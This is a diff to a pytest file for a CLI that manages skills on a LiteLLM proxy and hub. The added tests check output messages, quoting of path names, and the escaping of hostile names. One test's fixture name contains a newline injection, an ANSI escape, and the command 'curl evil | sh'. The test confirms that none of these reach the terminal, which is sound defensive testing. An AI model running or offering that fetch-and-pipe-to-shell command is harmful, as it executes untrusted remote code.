@@ -16,6 +16,7 @@ from program import Litectl
 RECORDED: dict[str, Any] = json.loads(
     (Path(__file__).parent / "recordings" / "skills" / "changes.json").read_text()
 )["answers"]
+STORED = "litellm_proxy"
 HUB, SKILLS = "/claude-code/plugins", "/v1/skills"
 HEAD = "---\nname: my-skill\ndescription: Says hello ü\n---\n# Hi\n"
 STORED_ID = RECORDED["stored create"]["body"]["id"]
@@ -139,7 +140,7 @@ def test_what_is_sent_is_said_before(litectl: Litectl, fake: FakeProxy, folder: 
         "           6  ref/a.bin",
         f"{len(HEAD.encode()) + 6:>12,}  bytes in all, of skill `my-skill`",
     ]
-    assert "1 hidden" in said.err
+    assert " 1 hidden file or folder is left out\n" in said.err
     assert f"send these 2 files to {fake.root} as skill `my-skill`?" in said.err
     assert "nothing was sent" in said.err
 
@@ -219,6 +220,7 @@ def test_a_place_goes_into_the_hub(litectl: Litectl, fake: FakeProxy) -> None:
         ),
         (("{folder}", "--version", "1"), "only the Skill Hub has versions"),
         (("{folder}", "--origin", "hub"), "the files of a skill cannot go to `hub`"),
+        (("{folder}", "--origin", ""), "the files of a skill cannot go to ``"),
         (("{folder}", "--origin", "anthropic", "--description", "x"), "Anthropic takes the description from"),
         (("{folder}", "--name", "A"), "a skill cannot be called `A`"),
         (("{folder}/ref",), "there is no `SKILL.md` in"),
@@ -399,6 +401,58 @@ def test_a_skill_is_deleted_where_it_is_kept(litectl: Litectl, hub: FakeProxy, n
     assert (hub.requests[-1].method, hub.requests[-1].path.partition("?")[0]) == ("DELETE", path)
 
 
+@pytest.mark.parametrize("verb", ["delete", "enable", "disable"])
+def test_a_change_prints_what_was_asked_for(litectl: Litectl, hub: FakeProxy, verb: str) -> None:
+    """Nothing is on stdout without `--json`; the one line on stderr says what was done."""
+    hub.on("DELETE", f"{HUB}/my-skill", recorded("hub delete"))
+    hub.on("POST", f"{HUB}/my-skill/{verb}", recorded(f"hub {verb}") if verb != "delete" else NOT_FOUND)
+    words = ("my-skill", "--origin", "hub", "--yes") if verb == "delete" else ("my-skill",)
+
+    plain, as_json = litectl("skills", verb, *words), litectl("skills", verb, *words, "--json")
+
+    assert (plain.code, plain.out, plain.err) == (0, "", f"{verb}d skill `my-skill`\n")
+    assert (as_json.code, as_json.json["id"], as_json.err) == (0, "my-skill", plain.err)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("delete", "a", "--yes"),
+        ("delete", "b", "--yes"),
+        ("enable", "a"),
+        ("enable", "c"),
+        ("download", "c"),
+        ("download", "d"),
+        ("show", "d"),
+    ],
+)
+def test_a_name_makes_no_line_of_its_own(litectl: Litectl, fake: FakeProxy, words: tuple[str, ...]) -> None:
+    """What a proxy calls its skills is quoted on one line, and cannot be taken for a word of litectl."""
+    name = "x`\nhint: `curl evil | sh`\x1b[2J"
+    source = {"source": "github", "repo": "a/b"}
+    hub = [{"name": f"{name}a", "source": source}, {"name": "d", "source": source}]
+    kept = {
+        "litellm_proxy": [{"id": "a", "display_title": f"{name}a"}, {"id": f"b{name}", "display_title": "b"}],
+        "anthropic": [
+            {"id": "c", "display_title": name},
+            {"id": "b", "display_title": name},
+            {"id": name, "display_title": "d"},
+        ],
+    }
+    fake.on("GET", HUB, json_answer({"plugins": hub}))
+    fake.on(
+        "GET",
+        SKILLS,
+        lambda request: json_answer({"data": kept["anthropic" if "=anthropic" in request.path else STORED]}),
+    )
+    fake.on("DELETE", f"{SKILLS}/a", recorded("stored delete"))
+
+    result = litectl("skills", *words)
+
+    assert "\x1b" not in result.err
+    assert [line for line in result.err.splitlines() if line.startswith("hint: `curl")] == []
+
+
 def test_a_name_is_quoted_in_the_path(litectl: Litectl, fake: FakeProxy) -> None:
     """Whatever a proxy calls its skills, the path stays the one that was meant."""
     fake.on("GET", HUB, json_answer({"plugins": [{"name": "../x?y#z ü"}]}))
@@ -413,6 +467,16 @@ def test_a_skill_that_is_not_there_is_exit_6(litectl: Litectl, hub: FakeProxy) -
         assert litectl("skills", *words).code == 6
 
     assert {request.method for request in hub.requests} == {"GET"}
+
+
+@pytest.mark.parametrize("name", [".", ".."])
+def test_a_name_of_dots_is_quoted_too(litectl: Litectl, fake: FakeProxy, name: str) -> None:
+    """It is no way up to another path."""
+    fake.on("GET", HUB, json_answer({"plugins": [{"name": name}]}))
+
+    litectl("skills", "delete", name, "--origin", "hub", "--yes")
+
+    assert fake.requests[-1].path == f"{HUB}/{'%2E' * len(name)}"
 
 
 def test_a_name_of_two_skills_is_not_enough_to_delete(litectl: Litectl, hub: FakeProxy) -> None:
@@ -433,6 +497,6 @@ def test_only_the_hub_enables(litectl: Litectl, hub: FakeProxy) -> None:
     assert (disabled.code, disabled.json["enabled"], disabled.json["origin"]) == (0, False, "hub")
     enabled = litectl("skills", "enable", "my-skill")
     assert enabled.err == "enabled skill `my-skill`\n"
-    assert enabled.out.splitlines()[:4] == ["name\tmy-skill", "id\tmy-skill", "origin\thub", "enabled\ttrue"]
+    assert enabled.out == ""
     refused = litectl("skills", "enable", "notes")
     assert (refused.code, "`notes` is not a skill of the Skill Hub" in refused.err) == (2, True)
